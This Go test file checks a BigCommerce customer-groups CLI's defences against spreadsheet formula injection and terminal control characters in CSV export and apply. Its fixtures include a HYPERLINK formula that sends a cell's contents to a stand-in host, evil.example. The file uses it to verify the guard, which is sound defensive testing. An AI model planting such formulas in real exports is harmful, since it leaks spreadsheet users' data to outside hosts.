package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/bigcommerce-go/customergroups/bigcommercetest"
)

// formulaNames are names a spreadsheet would run, or would run after
// stripping their first character, and names next to them that must
// round-trip through the guard unchanged.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1 tier", "-10% off", "@SUM(A1)", "\tTabbed", "\rReturned",
	"'=already quoted", "''@twice", "'quoted", "Plain", "a=b",
}

func TestGuardCellRoundTripsAndDefusesFormulas(t *testing.T) {
	t.Parallel()
	for _, name := range formulaNames {
		g := guardCell(name)
		if unguardCell(g) != name {
			t.Errorf("unguardCell(guardCell(%q)) = %q", name, unguardCell(g))
		}
		if strings.ContainsRune(formulaStarts, rune(g[0])) {
			t.Errorf("guardCell(%q) = %q still starts a formula", name, g)
		}
	}
	for name, want := range map[string]string{"=1+1": "'=1+1", "'quoted": "'quoted", "Plain": "Plain", "'=x": "''=x"} {
		if got := guardCell(name); got != want {
			t.Errorf("guardCell(%q) = %q, want %q", name, got, want)
		}
	}
}

func formulaStore(t *testing.T) *bigcommercetest.Server {
	t.Helper()
	srv := bigcommercetest.NewServer()
	t.Cleanup(srv.Close)
	for _, name := range formulaNames {
		srv.Add(bigcommercetest.Group{Name: name, CategoryAccess: bigcommercetest.CategoryAccess{Type: "all"}})
	}
	return srv
}

// csvNames reads the name column of a CSV export.
func csvNames(t *testing.T, data string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, row := range rows[1:] {
		names = append(names, row[1])
	}
	return names
}

func TestCSVExportKeepsFormulasInertAndApplyReadsTheNamesBack(t *testing.T) {
	t.Parallel()
	srv := formulaStore(t)
	r := runOn(t, srv, "export", "-o", "csv")
	r.wantCode(t, 0)
	for _, cell := range csvNames(t, r.stdout) {
		if strings.ContainsRune(formulaStarts, rune(cell[0])) {
			t.Errorf("the CSV cell %q would run as a formula", cell)
		}
	}
	if names := csvNames(t, r.stdout); names[0] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || names[8] != "'quoted" {
		t.Errorf("names in the CSV: %q", names)
	}
	path := writeFile(t, "groups.csv", r.stdout)
	srv.ResetRequests()
	applied := runOn(t, srv, "apply", "-f", path, "--prune", "--yes")
	applied.wantCode(t, 0)
	if n := writes(srv); n != 0 {
		t.Errorf("applying the export back made %d writes, want none; plan:\n%s", n, applied.stdout)
	}
}

func TestCSVRawWritesCellsExactlyAndReadsThemSo(t *testing.T) {
	t.Parallel()
	srv := formulaStore(t)
	r := runOn(t, srv, "export", "-o", "csv", "--csv-raw")
	r.wantCode(t, 0)
	if names := csvNames(t, r.stdout); strings.Join(names, "|") != strings.Join(formulaNames, "|") {
		t.Errorf("--csv-raw wrote names %q, want them exact", names)
	}
	path := writeFile(t, "groups.csv", r.stdout)
	srv.ResetRequests()
	runOn(t, srv, "apply", "-f", path, "--prune", "--yes", "--csv-raw").wantCode(t, 0)
	if n := writes(srv); n != 0 {
		t.Errorf("applying a raw export back with --csv-raw made %d writes, want none", n)
	}
}

func TestCSVOnATerminalEscapesControlCharacters(t *testing.T) {
	t.Parallel()
	srv := newStore(t)
	g := srv.Add(bigcommercetest.Group{Name: hostileName, CategoryAccess: bigcommercetest.CategoryAccess{Type: "all"}})
	r := cli{srv: srv, outTTY: true}.run(t, "get", itoa(g.ID), "-o", "csv")
	r.wantCode(t, 0)
	if strings.ContainsAny(r.stdout, "\x1b\u202e") || !strings.Contains(r.stdout, `\x1b[2J`) {
		t.Errorf("CSV on a terminal: %q, want the controls escaped", r.stdout)
	}
	piped := runOn(t, srv, "get", itoa(g.ID), "-o", "csv")
	if !strings.Contains(piped.stdout, hostileName) {
		t.Errorf("CSV in a pipe: %q, want the name exact", piped.stdout)
	}
}

// TestACSVSaysHowItWasWrittenAndApplyFollowsIt is the fifth finding of
// issue 21: export --csv-raw then apply without --csv-raw planned to
// delete "'=already" and create "=already". The header now says how the
// cells were written, and apply reads them so, or refuses a mix-up.
func TestACSVSaysHowItWasWrittenAndApplyFollowsIt(t *testing.T) {
	t.Parallel()
	srv := formulaStore(t)
	raw := runOn(t, srv, "export", "-o", "csv", "--csv-raw")
	raw.wantCode(t, 0)
	guarded := runOn(t, srv, "export", "-o", "csv")
	guarded.wantCode(t, 0)
	rawFile, guardedFile := writeFile(t, "raw.csv", raw.stdout), writeFile(t, "guarded.csv", guarded.stdout)

	srv.ResetRequests()
	for _, args := range [][]string{
		{"apply", "-f", rawFile, "--prune", "--yes"},
		{"apply", "-f", rawFile, "--prune", "--yes", "--csv-raw"},
		{"apply", "-f", guardedFile, "--prune", "--yes"},
	} {
		r := runOn(t, srv, args...)
		r.wantCode(t, 0)
		if n := writes(srv); n != 0 {
			t.Errorf("%v made %d writes, want none; plan:\n%s", args, n, r.stdout)
		}
	}
	if !strings.HasSuffix(strings.SplitN(raw.stdout, "\n", 2)[0], ","+csvRaw) || !strings.HasSuffix(strings.SplitN(guarded.stdout, "\n", 2)[0], ","+csvGuarded) {
		t.Errorf("the headers do not say how the cells were written:\n%s\n%s", raw.stdout, guarded.stdout)
	}
	r := runOn(t, srv, "apply", "-f", guardedFile, "--prune", "--yes", "--csv-raw")
	r.wantCode(t, exitUsage)
	if !strings.Contains(r.stderr, "was written with the spreadsheet guard (its header has bcgroups:guarded)") || writes(srv) != 0 {
		t.Errorf("a guarded CSV applied with --csv-raw: stderr = %q, %d writes", r.stderr, writes(srv))
	}
}

// TestACSVFromAnotherProgramIsReadAsWrittenUnlessACellLooksGuarded: other
// programs do not add the guard, so their cells are taken as they are;
// only a cell that the guard could have written is ambiguous, and apply
// asks which was meant rather than guess.
func TestACSVFromAnotherProgramIsReadAsWrittenUnlessACellLooksGuarded(t *testing.T) {
	t.Parallel()
	srv := newStore(t)
	plain := writeFile(t, "plain.csv", "name,is_default\nRetail,true\n+1 tier,false\n")
	r := runOn(t, srv, "apply", "-f", plain, "--dry-run")
	r.wantCode(t, 0)
	if !strings.Contains(r.stdout, `+ create "+1 tier"`) {
		t.Errorf("plan:\n%s", r.stdout)
	}
	ambiguous := writeFile(t, "ambiguous.csv", "name\nRetail\n'=already\n")
	r = runOn(t, srv, "apply", "-f", ambiguous, "--dry-run")
	r.wantCode(t, exitUsage)
	if !strings.Contains(r.stderr, `:3: name: the cell "'=already" starts with a quote before a formula character`) || !strings.Contains(r.stderr, "pass --csv-raw") {
		t.Errorf("stderr = %q", r.stderr)
	}
	r = runOn(t, srv, "apply", "-f", ambiguous, "--dry-run", "--csv-raw")
	r.wantCode(t, 0)
	if !strings.Contains(r.stdout, `+ create "'=already"`) {
		t.Errorf("with --csv-raw, plan:\n%s", r.stdout)
	}
	if n := writes(srv); n != 0 {
		t.Errorf("%d writes from dry runs", n)
	}
}
